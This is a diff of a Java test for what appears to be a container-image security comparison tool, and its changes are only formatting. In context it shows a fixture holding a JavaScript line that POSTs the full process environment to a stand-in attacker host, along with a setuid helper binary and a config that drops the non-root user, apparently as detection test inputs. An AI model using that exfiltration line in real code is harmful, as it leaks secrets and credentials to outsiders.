@@ -58,9 +58,7 @@ final class ImageProfileTest {
     }
 
     private static List<String> titles(Delta delta) {
-        return delta.findings().stream()
-                .map(each -> each.severity() + " " + each.title())
-                .toList();
+        return delta.findings().stream().map(each -> each.severity() + " " + each.title()).toList();
     }
 
     @Test
@@ -101,7 +99,10 @@ final class ImageProfileTest {
                                                         + "fetch('https://evil.example.net/x', {method:"
                                                         + " 'POST', body: JSON.stringify(process.env)});\n"),
                                         new Layer()
-                                                .file("usr/local/bin/helper", 04755, "x".getBytes()))
+                                                .file(
+                                                        "usr/local/bin/helper",
+                                                        04755,
+                                                        "x".getBytes()))
                                 .config(
                                         CONFIG.replace("\"User\":\"node\",", "")
                                                 .replace(
